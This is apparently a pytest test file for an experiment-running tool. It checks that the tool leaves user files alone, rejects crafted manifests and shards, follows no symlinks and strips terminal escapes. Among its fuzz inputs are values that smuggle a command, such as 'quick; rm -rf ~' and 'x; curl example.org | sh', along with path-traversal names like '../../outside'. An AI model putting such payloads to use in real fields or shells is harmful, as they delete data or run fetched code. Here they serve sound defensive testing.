"""Folders that are somebody else's, and folders of runs that somebody else made up."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import sublearn.runs as runs
from runs.toys import tables, walks
from sublearn import BadInputError
from sublearn.cli import app
from sublearn.reports import page, write
from sublearn.reports._section import command
from sublearn.runs import Progress, Run, execute
from sublearn.runs._manifest import digest_of

GRID = {"points": 2, "trials": 6, "chunk": 3}


def whole() -> runs.Experiment:
    return walks(**GRID)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Run:
    folder = tmp_path_factory.mktemp("made")
    run = execute([whole()], out=folder)
    write(folder)
    return run


@pytest.fixture
def folder(made: Run, tmp_path: Path) -> Path:
    """A copy of a finished run, to be spoilt."""
    return Path(shutil.copytree(made.folder, tmp_path / "run"))


def content(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink()
    }


def looked_at(folder: Path) -> str:
    """What the commands that look say of a folder: one sentence, or the run with its damage."""
    said = ""
    for words in (["runs", str(folder)], ["runs", str(folder), "--json"], ["report", str(folder)]):
        result = CliRunner().invoke(app, words)
        if result.exception is None:
            said += result.stdout
        else:
            assert isinstance(result.exception, (BadInputError, OSError)), result.exc_info
            said += str(result.exception)
            assert "\n" not in str(result.exception)
    return said


# 1. Nothing of the user's is ever touched.

THEIRS = {
    "notes.txt": b"mine",
    ".mine.tmp": b"half a download",
    "deep/.other.part": b"half a film",
    "deep/.old.tmp": b"",
}


def foreign(folder: Path, **more: bytes) -> dict[str, bytes]:
    for name, data in {**THEIRS, **more}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return content(folder)


@pytest.mark.parametrize(
    "manifest",
    [
        None,
        b'{"name": "my app", "icons": []}',
        b'{"format": 1}',
        b"{",
        b"[]",
        b'{"format": 2, "name": "x"}',
    ],
)
def test_a_folder_of_somebody_else_is_refused(tmp_path: Path, manifest: bytes | None) -> None:
    before = foreign(tmp_path, **({} if manifest is None else {"manifest.json": manifest}))
    with pytest.raises(BadInputError, match=r"give (an empty|another) folder|another format"):
        execute([whole()], out=tmp_path)
    assert content(tmp_path) == before


def test_one_foreign_file_is_enough(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text('{"format": 1}')
    with pytest.raises(BadInputError, match="no shard beside it shows"):
        execute([whole()], out=tmp_path)
    assert content(tmp_path) == {"manifest.json": b'{"format": 1}'}


@pytest.mark.parametrize("begun", [False, True])
def test_a_lock_that_no_run_wrote_is_somebody_elses(begun: bool, tmp_path: Path) -> None:
    if begun:
        execute([whole()], out=tmp_path)
    (tmp_path / ".lock").write_bytes(b"mine")
    before = content(tmp_path)
    with pytest.raises(BadInputError, match=r"\.lock was not written by a run"):
        execute([whole()], out=tmp_path)
    assert content(tmp_path) == before


@pytest.mark.parametrize("left", [b"", b"\0" * 40, b"process 12 on host\n", b"process 12 on a\n1f"])
def test_a_lock_that_a_killed_run_left_is_ours(left: bytes, tmp_path: Path) -> None:
    (tmp_path / ".lock").write_bytes(left)
    assert execute([whole()], out=tmp_path).state("walks").finished


def test_a_table_of_somebody_else_among_the_shards_is_left_alone(folder: Path, made: Run) -> None:
    mine = folder / "walks" / "shards" / "mine.parquet"
    mine.write_bytes(b"mine")
    assert "mine.parquet" not in looked_at(folder)
    execute([whole()], out=folder)
    assert mine.read_bytes() == b"mine" and not mine.with_name("mine.parquet.damaged").exists()
    mine.unlink()
    assert tables(folder) == tables(made.folder)


@pytest.mark.parametrize("command", ["runs", "report"])
@pytest.mark.parametrize("name", ["", " "])
def test_no_name_is_not_the_folder_where_one_is(
    command: str, name: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    before = content(folder)
    result = CliRunner().invoke(app, [command, name])
    assert isinstance(result.exception, BadInputError) and "names none" in str(result.exception)
    assert content(folder) == before


def test_what_stands_beside_a_run_is_left_alone(folder: Path, made: Run) -> None:
    (folder / "walks" / "shards" / next(iter(_shards(folder))).name).unlink()
    foreign(folder)
    (folder / "walks" / ".mine.tmp").write_bytes(b"mine")
    execute([whole()], out=folder)
    found = content(folder)
    assert {name: found[name] for name in THEIRS} == THEIRS
    assert found["walks/.mine.tmp"] == b"mine"
    assert tables(folder) == tables(made.folder)


def test_the_folder_of_an_experiment_may_be_somebody_elses(folder: Path) -> None:
    (folder / "more").mkdir()
    (folder / "more" / "table.csv").write_text("my,own\n1,2\n")
    before = content(folder)
    with pytest.raises(BadInputError, match=r"more holds 'table\.csv', and nothing shows"):
        execute([walks("more")], out=folder)
    assert content(folder) == before
    (folder / "more" / "table.csv").unlink()
    assert execute([walks("more")], out=folder).state("more").finished, "an empty one may be used"


def test_leftovers_are_removed_only_where_a_run_writes(folder: Path) -> None:
    ours = [folder / ".x.sublearn-part", folder / "walks" / "shards" / ".x.sublearn-part"]
    theirs = [folder / "other" / ".x.sublearn-part", folder / "walks" / "deep" / ".x.sublearn-part"]
    for path in (*ours, *theirs):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(b"half")
    execute([whole()], out=folder)
    assert not any(path.exists() for path in ours) and all(path.exists() for path in theirs)


# 3. Files from others cannot harm.


def _shards(folder: Path) -> list[Path]:
    return sorted((folder / "walks" / "shards").glob("*.parquet"))


def _plant(folder: Path, data: bytes, *, instead: bool = True) -> Path:
    """A shard with any content, under the name that its content has."""
    place = folder / "walks" / "shards"
    if instead:
        for path in place.iterdir():
            path.unlink()
    path = place / f"{hashlib.sha256(data).hexdigest()[:32]}.parquet"
    path.write_bytes(data)
    return path


def _packed(table: pa.Table) -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(table, sink)
    return sink.getvalue().to_pybytes()


def _with(table: pa.Table, name: str, values: list[object], kind: pa.DataType) -> pa.Table:
    place = table.column_names.index(name)
    return table.set_column(place, name, pa.array(values, type=kind))


SHARDS: dict[str, Callable[[pa.Table], bytes]] = {
    "not Parquet": lambda t: b"PAR1 and then nothing",
    "empty": lambda t: b"",
    "no metadata": lambda t: _packed(t.replace_schema_metadata(None)),
    "a label that is none": lambda t: _packed(t.replace_schema_metadata({"sublearn": "[" * 9999})),
    "wrong columns": lambda t: _packed(t.drop_columns(["turns"])),
    "a column more": lambda t: _packed(t.append_column("more", t.column("turns"))),
    "another type": lambda t: _packed(_with(t, "turns", ["x"] * len(t), pa.string())),
    "no rows": lambda t: _packed(t.slice(0, 0)),
    "a null point": lambda t: _packed(_with(t, "point", [None] * len(t), pa.int32())),
    "a null value": lambda t: _packed(_with(t, "end", [None] * len(t), pa.float64())),
    "negative trials": lambda t: _packed(_with(t, "trial", [-1] * len(t), pa.int64())),
    "negative points": lambda t: _packed(_with(t, "point", [-1] * len(t), pa.int32())),
    "trials beyond": lambda t: _packed(_with(t, "trial", [6] * len(t), pa.int64())),
    "points beyond": lambda t: _packed(_with(t, "point", [2] * len(t), pa.int32())),
    "huge trials": lambda t: _packed(_with(t, "trial", [2**62] * len(t), pa.int64())),
    "text that is none": lambda t: _packed(
        t.set_column(
            t.column_names.index("side"),
            "side",
            pa.Array.from_buffers(
                pa.string(), len(t), pa.array([b"\xff\xfe"] * len(t), type=pa.binary()).buffers()
            ),
        )
    ),
    "more rows than asked for": lambda t: _packed(pa.concat_tables([t] * 5)),
}


@pytest.mark.parametrize("kind", SHARDS)
def test_a_crafted_shard_changes_nothing(kind: str, folder: Path, made: Run) -> None:
    table = pq.read_table(_shards(folder)[0])
    path = _plant(folder, SHARDS[kind](table))
    said = looked_at(folder)
    assert "is damaged" in said and path.name in said and "12 trials left" in said
    assert path.exists(), "looking changes nothing"
    execute([whole()], out=folder)
    assert tables(folder) == tables(made.folder)
    assert path.with_name(path.name + ".damaged").exists()


def test_a_crafted_shard_beside_a_good_one_changes_nothing(folder: Path, made: Run) -> None:
    table = pq.read_table(_shards(folder)[0])
    _plant(folder, SHARDS["negative trials"](table), instead=False)
    assert runs.open(folder).rows("walks")["trial"].tolist() == [*range(6)] * 2
    execute([whole()], out=folder)
    assert tables(folder) == tables(made.folder)


def _manifest(change: Callable[[dict], object]) -> Callable[[bytes], bytes]:
    def changed(data: bytes) -> bytes:
        found = json.loads(data)
        change(found)
        return json.dumps(found).encode()

    return changed


def _entry(**values: object) -> Callable[[bytes], bytes]:
    """Other values, and the digest that goes with them, as a stranger would write it."""

    def change(manifest: dict) -> None:
        entry = manifest["experiments"]["walks"]
        entry.update({"digest": digest_of({**entry, **values}), **values})

    return _manifest(change)


def _renamed(name: str) -> Callable[[bytes], bytes]:
    return _manifest(lambda m: m["experiments"].update({name: m["experiments"].pop("walks")}))


MANIFESTS: dict[str, Callable[[bytes], bytes]] = {
    "nested 10,000 deep": lambda data: b'{"format": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "format alone": lambda data: b'{"format":1}',
    "experiments a list": _manifest(lambda m: m.update(experiments=[1])),
    "no experiments": _manifest(lambda m: m.update(experiments={})),
    "format true": _manifest(lambda m: m.update(format=True)),
    "format a list": _manifest(lambda m: m.update(format=[1])),
    "versions null": _manifest(lambda m: m.update(versions=None)),
    "versions of numbers": _manifest(lambda m: m.update(versions={"numpy": 1})),
    "history of numbers": _manifest(lambda m: m.update(history=[1])),
    "digest missing": _manifest(lambda m: m["experiments"]["walks"].pop("digest")),
    "digest of another": _entry(digest="0" * 64),
    "points a table": _entry(points={}),
    "no points": _entry(points=[]),
    "trials negative": _entry(points=[{"params": {"steps": 10}, "trials": -3, "chunk": 1}]),
    "params nested": _entry(points=[{"params": {"steps": [1]}, "trials": 3, "chunk": 1}]),
    "more trials than are counted": _entry(
        points=[{"params": {"steps": 10}, "trials": 10**20, "chunk": 1}]
    ),
    "more trials in all": _entry(
        points=[{"params": {"steps": i}, "trials": 2**61, "chunk": 1} for i in range(4)]
    ),
    "a seed that is infinite": lambda data: data.replace(b'"seed": 0', b'"seed": 1e999'),
    "a column named point": _entry(columns={"point": "int"}),
    "a column named trial": _entry(columns={"end": "float", "trial": "str"}),
    "title a number": _entry(title=3),
    "headings a list": _entry(headings=[]),
    "columns of lists": _entry(columns={"end": ["float"]}),
    "budget to type": _entry(budget="quick; rm -rf ~"),
    "seed a text": _entry(seed="0; curl x | sh"),
    "a name that leads out": _renamed("../../outside"),
    "a name that is a path": _renamed("/tmp"),
    "a name to type": _renamed("x; curl example.org | sh"),
    "twice": lambda data: data.replace(b'"format": 1', b'"format": 1, "format": 1'),
    "a number of 5,000 digits": lambda data: data.replace(
        b'"format": 1', b'"format": ' + b"9" * 5000
    ),
    "NaN": lambda data: data.replace(b'"format": 1', b'"format": NaN'),
    "not UTF-8": lambda data: b"\xff" + data,
    "truncated": lambda data: data[: len(data) // 2],
    "empty": lambda data: b"",
}


@pytest.mark.parametrize("kind", MANIFESTS)
def test_a_crafted_manifest_gives_one_sentence_and_the_shards_go_on(
    kind: str, folder: Path, made: Run
) -> None:
    path = folder / "manifest.json"
    path.write_bytes(MANIFESTS[kind](path.read_bytes()))
    said = looked_at(folder)
    assert "manifest.json cannot be read (" in said and "the command that made it goes on" in said
    seen: list[runs.Progress] = []
    execute([whole()], out=folder, progress=seen.append)
    assert seen[0].done == 12, "shards know what they belong to"
    assert tables(folder) == tables(made.folder)


SPOILT: dict[str, list[bytes]] = {
    "walks/about.json": [
        b"",
        b'{"finds": "x", "pict',
        b"[" * 10_000,
        b"[1, 2]",
        b"null",
        b'{"finds": 1, "pictures": []}',
        b'{"finds": "", "pictures": ["../../secret.svg"]}',
        b'{"finds": "", "pictures": ["/etc/passwd.svg"]}',
        b'{"finds": "", "pictures": [".svg"]}',
        b'{"finds": "", "pictures": "abc"}',
        b'{"finds": "", "finds": "", "pictures": []}',
    ],
    "walks/table.csv": [
        b"",
        b"steps,mean\n10",
        b"\xff\xfe\n1\n",
        b"a,b\n1,2,3\n",
        b"a,a\n1,2\n",
        b'"a\n',
        b"steps,mean\n10,0.5\n",
        b"a\n\0\n",
    ],
    "failures.json": [
        b"[1,2]",
        b"[" * 10_000,
        b"null",
        b"{}",
        b'[{"experiment": "walks"}]',
        b'[{"experiment": "walks", "step": "x", "error": "y", "params": 3}]',
        b'[{"experiment": "walks", "step": "x", "error": "y", "params": {"a": 1e999}}]',
        b'[{"experiment": "walks", "step": "x", "error": "y", "params": {"a": -1e999}}]',
    ],
}
CASES = [(name, data) for name, contents in SPOILT.items() for data in contents]


def test_a_damaged_table_is_none(folder: Path) -> None:
    (folder / "walks" / "table.csv").write_bytes(b"steps\n")
    state = runs.open(folder).state("walks")
    assert state.trials_done == state.trials and not state.finished
    assert "their table is not" in write(folder).read_text()
    execute([whole()], out=folder)
    assert runs.open(folder).state("walks").finished


def test_what_is_set_aside_is_told(folder: Path) -> None:
    (shard,) = (folder / "walks" / "shards").iterdir()
    for path in (folder / "manifest.json", shard):
        data = path.read_bytes()
        path.write_bytes(data[:-9])
        seen: list[Progress] = []
        execute([whole()], out=folder, progress=seen.append)
        name = path.relative_to(folder).as_posix()
        assert seen[0].news == f"{name} is damaged: kept as {name}.damaged, and made anew"
        assert "damaged" not in "".join(now.news for now in seen[1:])


@pytest.mark.parametrize(("name", "data"), CASES, ids=[f"{n}-{d[:40]!r}" for n, d in CASES])
def test_other_damage_is_named_and_made_anew(
    name: str, data: bytes, folder: Path, made: Run
) -> None:
    (folder / name).write_bytes(data)
    assert f"{name} is damaged" in looked_at(folder)
    execute([whole()], out=folder)
    write(folder)
    assert (folder / name).read_bytes() == (made.folder / name).read_bytes()
    assert runs.open(folder).damage == []
    assert (folder / "report.html").read_bytes() == (made.folder / "report.html").read_bytes()


@pytest.mark.parametrize("kind", ["folder", "pipe"])
@pytest.mark.parametrize(
    "name", ["manifest.json", "failures.json", "walks/table.csv", "walks/about.json"]
)
def test_what_is_no_file_is_set_aside_and_made_anew(
    name: str, kind: str, folder: Path, made: Run
) -> None:
    path = folder / name
    for _ in range(2):  # the second time beside what was set aside the first time
        path.unlink()
        if kind == "folder":
            path.mkdir()
            (path / "mine").write_bytes(b"mine")
        else:
            os.mkfifo(path)
        assert "Traceback" not in looked_at(folder)
        seen: list[Progress] = []
        execute([whole()], out=folder, progress=seen.append)
        assert path.is_file() and f"{name} is damaged: kept as" in "".join(now.news for now in seen)
        assert runs.open(folder).damage == [] and tables(folder) == tables(made.folder)
    if kind == "folder":
        kept = sorted(path.parent.glob(f"{path.name}*.damaged/mine"))
        assert [each.read_bytes() for each in kept] == [b"mine"] * 2, "nothing of anybody's is lost"


@pytest.mark.parametrize(
    "data", [b"", b"1,2\n", b"\xff\xff", b"walks,0,0,3,x,y\n", b"a\n" * 3, b"\0,"]
)
def test_timings_say_nothing_of_rows(data: bytes, folder: Path) -> None:
    (folder / "timings.csv").write_bytes(data)
    assert "Traceback" not in looked_at(folder)
    assert runs.open(folder).seconds() == {"walks": 0.0}


def test_no_link_is_followed(folder: Path, tmp_path: Path) -> None:
    """A page that shows a stranger's run must not show a file of the reader's."""
    secret = tmp_path / "secret"
    secret.write_text("my,secret\n1,2\n")
    (folder / "walks" / "mine.svg").symlink_to(secret)
    about = {"finds": "", "pictures": ["mine.svg"]}
    (folder / "walks" / "about.json").write_text(json.dumps(about))
    (folder / "walks" / "table.csv").unlink()
    (folder / "walks" / "table.csv").symlink_to(secret)
    run = runs.open(folder)
    assert run.pictures("walks") == [] and run.table("walks") == []
    assert "secret" not in page(run).replace("my secret", "")
    assert "walks/table.csv is damaged: it is a link." in run.damage


@pytest.mark.parametrize("name", [".lock", "timings.csv", "failures.json", "manifest.json"])
def test_nothing_is_written_through_a_link(name: str, folder: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.write_bytes(b"mine")
    for path in _shards(folder):
        path.unlink()
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(mine)
    try:
        execute([whole()], out=folder)
    except (BadInputError, OSError) as problem:
        assert name in str(problem)
    assert mine.read_bytes() == b"mine"


@pytest.mark.parametrize("place", ["walks", "walks/shards"])
def test_a_folder_that_leads_elsewhere_is_refused(place: str, folder: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    shutil.move(folder / place, mine)
    (folder / place).symlink_to(mine)
    before = content(mine)
    with pytest.raises(BadInputError, match="it is a link or a file"):
        execute([whole()], out=folder)
    assert "it is a link or a file" in looked_at(folder)
    assert content(mine) == before


def test_a_pipe_is_no_file(folder: Path) -> None:
    for name in ("manifest.json", "failures.json", "walks/table.csv", "timings.csv"):
        (folder / name).unlink()
        os.mkfifo(folder / name)
        assert "Traceback" not in looked_at(folder)


def test_commands_can_be_pasted(folder: Path) -> None:
    """Only names that need no quotes get as far as a command to copy."""
    assert command(runs.open(folder), "walks") == "sublearn sweep walks.toml"


def test_escape_sequences_reach_no_terminal(folder: Path) -> None:
    entry = {"experiment": "walks", "step": "run\x1b[2J", "error": "\x1b]0;owned\x07\nmore"}
    (folder / "failures.json").write_text(json.dumps([entry]))
    result = CliRunner().invoke(app, ["runs", str(folder)])
    assert result.exit_code == 0 and "\x1b" not in result.stdout and "\\x1b[2J" in result.stdout


# 9 and 10. A run can be carried elsewhere.


def test_a_run_that_was_moved_or_copied_goes_on(tmp_path: Path, made: Run) -> None:
    def stop(now: runs.Progress) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        execute([whole()], out=tmp_path / "one", progress=stop)
    shutil.copytree(tmp_path / "one", tmp_path / "copy")
    (tmp_path / "one").rename(tmp_path / "moved")
    for name in ("copy", "moved"):
        seen: list[runs.Progress] = []
        execute([whole()], out=tmp_path / name, progress=seen.append)
        assert seen[0].done > 3, "what was there is not computed again"
        assert tables(tmp_path / name) == tables(made.folder)


def test_the_report_does_not_depend_on_where_the_run_lies(
    folder: Path, made: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    expected = page(made)
    assert page(runs.open(folder)) == expected
    monkeypatch.chdir(folder.parent)
    assert page(runs.open("run")) == expected
    monkeypatch.chdir(folder)
    assert page(runs.open(".")) == expected
